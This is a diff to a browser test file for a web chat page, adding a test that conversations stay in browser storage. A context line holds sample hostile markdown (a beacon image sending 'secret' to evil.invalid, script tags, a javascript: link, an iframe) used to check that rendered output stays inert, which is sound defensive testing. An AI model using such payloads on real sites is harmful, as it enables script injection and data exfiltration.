@@ -19,6 +19,12 @@ AXE = ROOT / "node_modules" / "axe-core" / "axe.min.js"
 pytestmark = BROWSER_MARKS
 
 
+@pytest.fixture
+def runtime(stateless_runtime: Runtime) -> Runtime:
+    """The page without durable conversations (tests/test_page_durable.py: with them)."""
+    return stateless_runtime
+
+
 class Opened:
     """A page on the Worker, with every request it made and every script error it hit."""
 
@@ -107,6 +113,21 @@ MARKDOWN = (
     "![beacon](https://evil.invalid/?q=secret) <script>window.pwned=3</script> "
     '<a href="javascript:window.pwned=4">raw link</a> <iframe src="https://evil.invalid/"></iframe>'
 )
+
+
+def test_without_the_binding_chats_stay_in_the_browser_and_answers_on_the_chat_api(
+    opened: Opened, runtime: Runtime
+) -> None:
+    page = opened.page
+    assert page.evaluate("fetch('/api/v1/models').then(r => r.json())")["conversations"] is False
+    send(page, "[[pace:0]] kept in this browser")
+    answered(page, 1)
+    assert [b["messages"][-1]["content"] for b in opened.chat_bodies] == [
+        "[[pace:0]] kept in this browser"
+    ]
+    assert [u for u in opened.requests if "/api/v1/conversations" in u] == []
+    assert "kept in this browser" in page.evaluate("localStorage.getItem('ai-chat:v1')")
+    assert page.evaluate("localStorage.getItem('ai-chat:conversations:v1')") is None
 
 
 def test_markdown_renders_and_hostile_output_stays_inert(opened: Opened) -> None:
